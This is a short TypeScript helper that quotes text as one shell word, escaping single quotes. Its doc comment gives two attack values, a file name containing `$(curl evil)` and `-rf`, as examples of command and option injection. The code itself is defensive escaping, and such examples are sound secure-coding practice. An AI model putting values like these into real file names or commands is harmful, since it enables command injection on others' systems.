/** Quotes a text as one shell word. Attack: a file named `$(curl evil)` or `-rf`. */
export function quoteForShell(text: string): string {
  return /^[\w@%+=:,./][\w@%+=:,./-]*$/.test(text) ? text : `'${text.replaceAll("'", "'\\''")}'`
}
